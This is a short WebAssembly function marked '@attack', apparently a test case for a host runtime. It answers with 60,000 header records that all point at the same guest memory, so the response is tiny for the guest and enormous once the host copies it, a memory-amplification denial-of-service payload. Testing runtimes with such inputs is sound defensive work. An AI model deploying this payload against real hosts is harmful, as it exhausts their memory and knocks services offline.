;; Answers 60,000 headers that are all the same bytes: small for the guest, large for the host.
;; @attack
(func $attack (result i32)
  (local $at i32)
  (local.set $at (i32.const 131072))
  (loop $more
    (i32.store offset=0 (local.get $at) (i32.const 131072))
    (i32.store offset=4 (local.get $at) (i32.const 65536))
    (i32.store offset=8 (local.get $at) (i32.const 131072))
    (i32.store offset=12 (local.get $at) (i32.const 65536))
    (local.set $at (i32.add (local.get $at) (i32.const 16)))
    (br_if $more (i32.lt_u (local.get $at) (i32.const 1091072))))
  (i32.store (i32.const 8192) (i32.const 200))
  (i32.store (i32.const 8196) (i32.const 131072))
  (i32.store (i32.const 8200) (i32.const 60000))
  i32.const 8192)
